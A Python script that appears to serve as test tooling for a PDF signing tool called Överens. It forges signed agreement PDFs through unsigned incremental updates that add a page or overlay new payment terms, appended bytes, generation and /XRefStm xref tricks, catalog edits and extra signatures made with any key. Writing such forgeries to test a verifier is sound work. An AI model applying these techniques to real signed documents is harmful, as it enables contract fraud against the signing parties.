#!/usr/bin/env python3
"""pdfforge.py - forgeries of a signed agreement PDF, as an attacker makes them.

Independent of Överens' own signer: incremental updates are written here and
signatures are made with the stock `openssl cms` command, so nothing that
`overens sign` checks stands between the forger and the file.  Objects are
found in the file body or in object streams; updates are classic sections
(a forger need not follow the standard), which the reader accepts after
cross-reference streams too.

  pdfforge.py page IN OUT            unsigned update: a page is added
  pdfforge.py overlay IN OUT         unsigned update: text drawn over page 1
  pdfforge.py append IN OUT          bytes after the last %%EOF
  pdfforge.py gen IN OUT             page 1's content stream listed again, same
                                     offset, generation 1 (so "N 0 R" is null)
  pdfforge.py xrefstm IN OUT         an update whose trailer names an /XRefStm
  pdfforge.py catalog IN OUT (--drop KEY | --add 'KEY VALUE')
                                     unsigned update: the catalog without its entry
                                     KEY, or with one more entry
  pdfforge.py sign IN OUT --field NAME --key KEY --cert CERT [--chain PEM]
                 [--time D:YYYYMMDDHHmmSS+01'00'] [--widget-extra '/AA <<>>']
                 [--rect 'X1 Y1 X2 Y2']
                                     a signature field with a CAdES signature
                                     over the file, by whoever holds KEY
"""
import argparse
import re
import subprocess
import sys
import tempfile
import zlib

CONTENTS_HEX = 32768


def last_trailer(d):
    """The newest trailer (a table's, or the dictionary of a cross-reference
    stream) and where its section starts (the last startxref)."""
    x = int(list(re.finditer(rb'startxref\s+(\d+)', d))[-1].group(1))
    if d.startswith(b'xref', x):
        m = re.compile(rb'trailer\s*<<(.*?)>>\s*startxref', re.S).search(d, x)
    else:
        m = re.compile(rb'\d+\s+\d+\s+obj\s*<<(.*?)>>\s*stream', re.S).match(d, x)
    return m.group(1), x


def size_of(d):
    return int(re.search(rb'/Size\s+(\d+)', last_trailer(d)[0]).group(1))


def root_of(d):
    return int(re.search(rb'/Root\s+(\d+)', last_trailer(d)[0]).group(1))


def packed(d):
    """The objects in object streams: {number: (text, the stream's offset)}."""
    found = {}
    for m in re.finditer(rb'(?<![0-9])\d+ 0 obj\s*<<([^>]*?/Type\s*/ObjStm[^>]*?)>>\s*stream\r?\n', d):
        length = int(re.search(rb'/Length\s+(\d+)', m.group(1)).group(1))
        first = int(re.search(rb'/First\s+(\d+)', m.group(1)).group(1))
        data = zlib.decompress(d[m.end():m.end() + length])
        head = [int(v) for v in data[:first].split()]
        starts = head[1::2] + [len(data) - first]
        for i, num in enumerate(head[0::2]):
            found[num] = (data[first + starts[i]:first + starts[i + 1]].strip(), m.start())
    return found


def search(d, pattern):
    """re.search over the file and then over the objects in object streams."""
    m = re.search(pattern, d)
    for text, _ in ([] if m else packed(d).values()):
        m = m or re.search(pattern, text)
    return m


def newest(d, num):
    """Object `num` as the newest revision has it: its last "num 0 obj" in
    the file, or else its text in an object stream."""
    pat = rb'(?<![0-9])%d 0 obj\s*(.*?)\s*endobj' % num
    found = list(re.finditer(pat, d, re.S))
    return found[-1].group(1) if found else packed(d)[num][0]


def offset_of(d, num):
    """Where object `num` starts, or the object stream holding it."""
    found = list(re.finditer(rb'(?<![0-9])%d 0 obj' % num, d))
    return found[-1].start() if found else packed(d)[num][1]


def first_page(d):
    pages = int(re.search(rb'/Pages\s+(\d+)\s+0\s+R', newest(d, root_of(d))).group(1))
    kids = re.search(rb'/Kids\s*\[\s*(\d+)\s+0\s+R', newest(d, pages)).group(1)
    return pages, int(kids)


def append_xref(d, entries, trailer_extra=b''):
    """An update of xref entries only: [(num, offset, generation)]."""
    trailer, prev = last_trailer(d)
    root = re.search(rb'/Root\s+\d+\s+\d+\s+R', trailer).group(0)
    info = re.search(rb'/Info\s+\d+\s+\d+\s+R', trailer)
    out = bytearray(d)
    xref = len(out)
    out += b'xref\n'
    for num, off, gen in entries:
        out += b'%d 1\n%010d %05d n\r\n' % (num, off, gen)
    out += b'trailer\n<</Size %d %s %s%s/Prev %d>>\nstartxref\n%d\n%%%%EOF\n' % (
        size_of(d), root, info.group(0) + b' ' if info else b'', trailer_extra, prev, xref)
    return bytes(out)


def append_update(d, objs):
    """One incremental update: the objects, an xref section, a trailer."""
    trailer, prev = last_trailer(d)
    root = re.search(rb'/Root\s+\d+\s+\d+\s+R', trailer).group(0)
    info = re.search(rb'/Info\s+\d+\s+\d+\s+R', trailer)
    ident = re.search(rb'/ID\s*\[[^\]]*\]', trailer)
    out = bytearray(d)
    if not out.endswith(b'\n'):
        out += b'\n'
    offs = {}
    for num in sorted(objs):
        offs[num] = len(out)
        out += b'%d 0 obj\n' % num + objs[num] + b'\nendobj\n'
    xref = len(out)
    out += b'xref\n'
    for num in sorted(objs):
        out += b'%d 1\n%010d 00000 n\r\n' % (num, offs[num])
    size = max([size_of(d)] + [n + 1 for n in objs])
    extra = b''.join(x.group(0) + b' ' for x in (info, ident) if x)
    out += b'trailer\n<</Size %d %s %s/Prev %d>>\nstartxref\n%d\n%%%%EOF\n' % (
        size, root, extra, prev, xref)
    return bytes(out)


def catalog(d, drop=None, add=None):
    """The catalog again in an update, without its entry /`drop` (a reference)
    or with `add` ("/Key value") put first."""
    root = root_of(d)
    body = newest(d, root)
    if drop:
        body, n = re.subn(rb'/' + drop + rb'\s+\d+\s+\d+\s+R', b'', body)
        if n != 1:
            raise SystemExit('pdfforge: the catalog has no /%s' % drop.decode())
    if add:
        body = body.replace(b'<<', b'<<' + add + b' ', 1)
    return append_update(d, {root: body})


def stream(data, extra=b''):
    return b'<<%s/Length %d>>\nstream\n' % (extra, len(data)) + data + b'\nendstream'


def add_page(d):
    pnum, _ = first_page(d)
    pages = newest(d, pnum)
    kids = re.search(rb'/Kids\s*\[(.*?)\]', pages, re.S).group(1).strip()
    count = int(re.search(rb'/Count\s+(\d+)', pages).group(1))
    n = size_of(d)
    rest = re.sub(rb'/Kids\s*\[.*?\]|/Count\s+\d+', b'', pages, flags=re.S).strip()[2:-2]
    return append_update(d, {
        pnum: b'<<%s /Kids [%s %d 0 R] /Count %d>>' % (rest, kids, n, count + 1),
        n: b'<</Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R '
           b'/Resources <</Font <</F1 %d 0 R>>>>>>' % (pnum, n + 1, n + 2),
        n + 1: stream(b'BT /F1 24 Tf 72 700 Td (Tillagd sida: kommunen betalar allt) Tj ET'),
        n + 2: b'<</Type /Font /Subtype /Type1 /BaseFont /Helvetica>>'})


def overlay(d):
    _, page = first_page(d)
    body = newest(d, page)
    n = size_of(d)
    m = re.search(rb'/Contents\s+(\d+)\s+0\s+R', body)
    old = b'%s 0 R' % m.group(1)
    body = body[:m.start()] + b'/Contents [%s %d 0 R]' % (old, n) + body[m.end():]
    # a white box and new words over the first lines of the text
    draw = (b'q 1 1 1 rg 60 700 480 60 re f Q '
            b'BT /FOv 14 Tf 0 0 0 rg 72 730 Td (Kommunen betalar 5 000 000 kronor varje manad.) Tj ET')
    res = re.search(rb'/Resources\s+(\d+)\s+0\s+R', body)
    objs = {page: body, n: stream(draw), n + 1: b'<</Type /Font /Subtype /Type1 /BaseFont /Helvetica>>'}
    if res:
        rnum = int(res.group(1))
        r = newest(d, rnum)
        objs[rnum] = re.sub(rb'/Font\s*<<', b'/Font <</FOv %d 0 R ' % (n + 1), r, count=1)
    else:
        objs[page] = re.sub(rb'/Font\s*<<', b'/Font <</FOv %d 0 R ' % (n + 1), body, count=1)
    return append_update(d, objs)


def acroform_update(d, widget):
    """The catalog (or its AcroForm object) with the widget in /Fields."""
    root = root_of(d)
    cat = newest(d, root)
    m = re.search(rb'/AcroForm\s+(\d+)\s+0\s+R', cat)
    if m:
        num = int(m.group(1))
        form = newest(d, num)
        form = re.sub(rb'/Fields\s*\[', b'/Fields [%d 0 R ' % widget, form, count=1)
        return {num: form}
    m = re.search(rb'/Fields\s*\[', cat)
    if m:
        return {root: cat[:m.end()] + b'%d 0 R ' % widget + cat[m.end():]}
    return {root: cat.rstrip()[:-2] + b' /AcroForm <</Fields [%d 0 R] /SigFlags 3>>>>' % widget}


def regenerate(d):
    _, page = first_page(d)
    content = int(re.search(rb'/Contents\s+(\d+)\s+0\s+R', newest(d, page)).group(1))
    off = list(re.finditer(rb'(?<![0-9])%d 0 obj' % content, d))[-1].start()
    return append_xref(d, [(content, off, 1)])


def xrefstm(d):
    _, page = first_page(d)
    off = offset_of(d, page)
    return append_xref(d, [(page, off, 0)], b'/XRefStm %d ' % off)


def sign(d, field, key, cert, chain, when, widget_extra=b'', rect=b'0 0 0 0'):
    _, page = first_page(d)
    n = size_of(d)
    sig, widget = n, n + 1
    body = newest(d, page)
    if re.search(rb'/Annots\s*\[', body):
        body = re.sub(rb'/Annots\s*\[', b'/Annots [%d 0 R ' % widget, body, count=1)
    else:
        body = body.rstrip()[:-2] + b' /Annots [%d 0 R]>>' % widget
    objs = {
        sig: (b'<</Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached '
              b'/ByteRange [0 0000000000 0000000000 0000000000] /M (' + when.encode() +
              b') /Contents <' + b'0' * CONTENTS_HEX + b'>>>'),
        widget: (b'<</Type /Annot /Subtype /Widget /FT /Sig /T (%s) /V %d 0 R /P %d 0 R '
                 b'/Rect [%s] /F 132 %s>>' % (field.encode(), sig, page, rect, widget_extra)),
        page: body,
    }
    objs.update(acroform_update(d, widget))
    out = bytearray(append_update(d, objs))
    start = out.index(b'%d 0 obj\n<</Type /Sig' % sig)
    a = out.index(b'/Contents <', start) + len(b'/Contents ')
    b = a + CONTENTS_HEX + 2
    br = out.index(b'/ByteRange [0 ', start) + len(b'/ByteRange [0 ')
    ranges = b'%d %d %d' % (a, b, len(out) - b)
    out[br:br + 32] = ranges.ljust(32)
    with tempfile.NamedTemporaryFile() as data, tempfile.NamedTemporaryFile() as der:
        data.write(bytes(out[:a]) + bytes(out[b:]))
        data.flush()
        cmd = ['openssl', 'cms', '-sign', '-binary', '-md', 'sha256', '-cades',
               '-outform', 'DER', '-in', data.name, '-out', der.name,
               '-signer', cert, '-inkey', key]
        if chain:
            cmd += ['-certfile', chain]
        subprocess.run(cmd, check=True)
        blob = open(der.name, 'rb').read().hex().upper().encode()
    assert len(blob) <= CONTENTS_HEX
    out[a + 1:a + 1 + len(blob)] = blob
    return bytes(out)


def main():
    p = argparse.ArgumentParser()
    p.add_argument('cmd', choices=['page', 'overlay', 'append', 'gen', 'xrefstm', 'catalog',
                                   'sign'])
    p.add_argument('src')
    p.add_argument('dst')
    p.add_argument('--field')
    p.add_argument('--key')
    p.add_argument('--cert')
    p.add_argument('--chain')
    p.add_argument('--time', default="D:20260320120000+01'00'")
    p.add_argument('--widget-extra', default='')
    p.add_argument('--rect', default='0 0 0 0')
    p.add_argument('--drop')
    p.add_argument('--add')
    a = p.parse_args()
    d = open(a.src, 'rb').read()
    if a.cmd == 'page':
        d = add_page(d)
    elif a.cmd == 'overlay':
        d = overlay(d)
    elif a.cmd == 'gen':
        d = regenerate(d)
    elif a.cmd == 'xrefstm':
        d = xrefstm(d)
    elif a.cmd == 'catalog':
        d = catalog(d, a.drop and a.drop.encode(), a.add and a.add.encode())
    elif a.cmd == 'append':
        d += b'\n% appended after the signature\n'
    else:
        d = sign(d, a.field, a.key, a.cert, a.chain, a.time, a.widget_extra.encode(),
                 a.rect.encode())
    open(a.dst, 'wb').write(d)


if __name__ == '__main__':
    sys.exit(main())
